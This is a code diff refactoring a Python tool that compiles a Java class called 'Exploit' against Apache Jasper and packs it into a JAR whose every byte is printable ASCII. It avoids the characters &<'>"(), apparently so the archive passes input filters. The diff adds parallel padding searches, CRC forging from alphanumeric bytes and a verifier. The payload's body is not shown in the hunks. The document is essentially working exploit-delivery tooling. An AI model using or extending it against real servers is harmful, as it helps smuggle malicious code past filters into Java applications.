@@ -3,9 +3,13 @@
 # date 2022-02-13
 from __future__ import print_function
 
-import time
-import os
+import argparse
+import string
+from contextlib import closing
+from classfile import ClassTemplate
 from compress import *
+from searchplan import SearchPlanner, batch_search, frontier_search, parallel_search, solve_search
+from validator import verify_jar
 
 allow_bytes = []
 disallowed_bytes = [38,60,39,62,34,40,41] # &<'>"()
@@ -16,14 +20,23 @@ for b in range(0,128): # ASCII
 
 
 if __name__ == '__main__':
+    parser = argparse.ArgumentParser()
+    parser.add_argument('-w', '--workers', type=int, help='number of worker processes (default: CPU count)')
+    parser.add_argument('--solve', action='store_true', help='forge an allowed CRC with the last bytes of the padding')
+    parser.add_argument('--frontier', action='store_true', help='try every allowed padding char for each padding length')
+    parser.add_argument('--batch', nargs='+', metavar='DISALLOWED',
+                        help='also generate a jar for each of these sets of disallowed ASCII characters')
+    parser.add_argument('--javac', default='/Library/Java/JavaVirtualMachines/jdk1.7.0_21.jdk/Contents/Home/bin/javac')
+    args = parser.parse_args()
+
     padding_char = 'A'
     raw_filename = 'Exploit.class'
     zip_entity_filename = 'Exploit.class'
     jar_filename = 'ascii01.jar'
-    num = 1
-    while True:
-        # step1 动态生成java代码并编译
-        javaCode = """
+    planner = SearchPlanner(allow_bytes, zip_entity_filename)
+
+    # step1 只编译一次java代码，之后直接修改class文件中填充字符串常量的长度
+    javaCode = """
                 import org.apache.jasper.compiler.StringInterpreter;
                 import org.apache.jasper.compiler.StringInterpreterFactory;
                 import java.io.FileOutputStream;
@@ -44,44 +57,97 @@ if __name__ == '__main__':
                     }
                 }
                 """
-        padding_data = padding_char * num
-        javaCode = javaCode.replace("{PADDING_DATA}", padding_data)
-
-        f = open('Exploit.java', 'w')
-        f.write(javaCode)
-        f.close()
-        time.sleep(0.1)
-
-        os.system("/Library/Java/JavaVirtualMachines/jdk1.7.0_21.jdk/Contents/Home/bin/javac -nowarn -g:none -source 1.5 -target 1.5 -cp jasper.jar  Exploit.java")
-        time.sleep(0.1)
-
-        # step02 计算压缩之后的各个部分是否在允许的ASCII范围
-        raw_data = bytearray(open(raw_filename, 'rb').read())
-        compressor = ASCIICompressor(bytearray(allow_bytes))
-        compressed_data = compressor.compress(raw_data)[0]
-        crc = zlib.crc32(raw_data) % pow(2, 32)
+    template = ClassTemplate.compile(
+        javaCode, 'Exploit', args.javac,
+        ['-nowarn', '-g:none', '-source', '1.5', '-target', '1.5', '-cp', 'jasper.jar'],
+        padding_char
+    )
+    # 填充字符串常量的长度字段只有两个字节
+    stop = template.max_num + 1
 
-        st_crc = struct.pack('<L', crc)
-        st_raw_data = struct.pack('<L', len(raw_data) % pow(2, 32))
-        st_compressed_data = struct.pack('<L', len(compressed_data) % pow(2, 32))
-        st_cdzf = struct.pack('<L', len(compressed_data) + len(zip_entity_filename) + 0x1e)
-
-
-        b_crc = isAllowBytes(st_crc, allow_bytes)
-        b_raw_data = isAllowBytes(st_raw_data, allow_bytes)
-        b_compressed_data = isAllowBytes(st_compressed_data, allow_bytes)
-        b_cdzf = isAllowBytes(st_cdzf, allow_bytes)
-
-        # step03 判断各个部分是否符在允许字节范围
-        if b_crc and b_raw_data and b_compressed_data and b_cdzf:
-            print('[+] CRC:{0} RDL:{1} CDL:{2} CDAFL:{3} Padding data: {4}*{5}'.format(b_crc, b_raw_data, b_compressed_data, b_cdzf, num, padding_char))
-            # step04 保存最终ascii jar
-            output = open(jar_filename, 'wb')
-            output.write(wrap_jar(raw_data,compressed_data, zip_entity_filename.encode()))
-            print('[+] Generate {0} success'.format(jar_filename))
-            break
+    if args.batch:
+        # step02 一次搜索同时为每个允许字节集合生成jar
+        alphabets = [allow_bytes] + [
+            [b for b in range(0,128) if chr(b) not in disallowed] for disallowed in args.batch
+        ]
+        results = batch_search(template, alphabets, zip_entity_filename, stop=stop)
+        for index, (num, raw_data, compressed_data, error) in enumerate(results):
+            filename = jar_filename if index == 0 else jar_filename.replace('.jar', '_{0}.jar'.format(index))
+            if error is not None:
+                print('[-] {0}: {1}'.format(filename, error))
+                continue
+            jar = JarWriter()
+            jar.add(zip_entity_filename, raw_data, compressed_data)
+            with open(filename, 'wb') as output:
+                jar.write(output)
+            verify_jar(jar.data(), {zip_entity_filename: raw_data}, alphabets[index])
+            print('[+] Generate {0} success, Padding data: {1}*{2}'.format(filename, num, padding_char))
+    else:
+        # step02 按代价从低到高依次检查各个部分是否在允许的ASCII范围
+        if args.solve:
+            # 用填充末尾的字母数字直接构造出合法的CRC
+            charset = [b for b in bytearray((string.ascii_letters + string.digits).encode()) if b in allow_bytes]
+            free_bytes = 12
+            search = solve_search(template, allow_bytes, zip_entity_filename, charset,
+                                  free_bytes, stop=stop)
+            candidates = (
+                (num, padding_char.encode(), raw_data, compressed_data, rejection)
+                for num, raw_data, compressed_data, rejection in search
+            )
+        elif args.frontier:
+            # 多进程同时尝试填充长度和填充字符，先试短的填充
+            padding_chars = [padding_char.encode()] + [
+                bytes(bytearray([b])) for b in allow_bytes if b not in (0, ord(padding_char))]
+            search = frontier_search(
+                template, allow_bytes, zip_entity_filename, padding_chars,
+                workers=args.workers, stop=stop)
+            candidates = (
+                (num, char, None, compressed_data, rejection)
+                for num, char, site, compressed_data, rejection in search
+            )
         else:
-            print('[-] CRC:{0} RDL:{1} CDL:{2} CDAFL:{3} Padding data: {4}*{5}'.format(b_crc, b_raw_data,
-                                                                                       b_compressed_data, b_cdzf, num,
-                                                                                       padding_char))
-        num = num + 1
+            # 多进程依次尝试各个填充长度
+            search = parallel_search(
+                template.render, allow_bytes, zip_entity_filename,
+                workers=args.workers, crc=template.crc, stop=stop)
+            candidates = (
+                (num, padding_char.encode(), None, compressed_data, rejection)
+                for num, compressed_data, rejection in search
+            )
+        # 无论如何结束都关闭搜索，停止进程池
+        with closing(search):
+            for num, char, raw_data, compressed_data, rejection in candidates:
+                planner.record(rejection)
+                if args.solve and rejection not in ('RDL', 'CRC'):
+                    # 填充末尾的字节是构造出来的，给出真实的内容
+                    end = template.padding_offset + num
+                    padding = '{0} bytes, last {1} forged: {2}'.format(
+                        num, free_bytes, bytes(raw_data[end-free_bytes:end]).decode())
+                else:
+                    padding = '{0}*{1}'.format(num, repr(char)[2:-1])
+
+                # step03 判断各个部分是否符在允许字节范围
+                if compressed_data is not None:
+                    print('[+] CRC:True RDL:True CDL:True CDAFL:True Padding data: {0}'.format(padding))
+                    # 立即关闭搜索，取消还在排队的候选
+                    search.close()
+                    # step04 保存最终ascii jar
+                    if raw_data is None:
+                        raw_data = template.render(num, char)
+                    f = open(raw_filename, 'wb')
+                    f.write(raw_data)
+                    f.close()
+                    jar = JarWriter()
+                    jar.add(zip_entity_filename, raw_data, compressed_data)
+                    with open(jar_filename, 'wb') as output:
+                        jar.write(output)
+                    print('[+] Generate {0} success'.format(jar_filename))
+                    # step05 校验jar的每个字节以及解压结果
+                    verify_jar(jar.data(), {zip_entity_filename: raw_data}, allow_bytes)
+                    print('[+] Verify {0} success'.format(jar_filename))
+                    break
+                else:
+                    print('[-] {0}:False Padding data: {1}'.format(rejection, padding))
+            else:
+                print('[-] No CONSTANT_Utf8 padding fits, tried up to {0} bytes'.format(template.max_num))
+        print(planner.report())